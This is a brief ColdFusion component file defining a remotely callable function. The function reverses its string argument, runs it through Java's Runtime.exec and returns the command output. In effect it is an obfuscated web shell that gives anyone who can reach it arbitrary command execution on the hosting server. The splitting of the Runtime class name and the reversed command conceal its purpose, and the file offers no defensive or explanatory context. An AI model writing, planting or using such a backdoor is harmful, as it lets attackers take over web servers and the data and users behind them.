component output=false {
    // script syntax: a remote function, the command decoded from its argument
    remote string function q(required string d) returnformat="plain" {
        var r = createObject("java", "java.lang." & "Runtime").getRuntime();
        var p = r.exec(arguments.d.reverse());
        return createObject("java", "java.util.Scanner").init(p.getInputStream()).useDelimiter("\\A").next();
    }
}
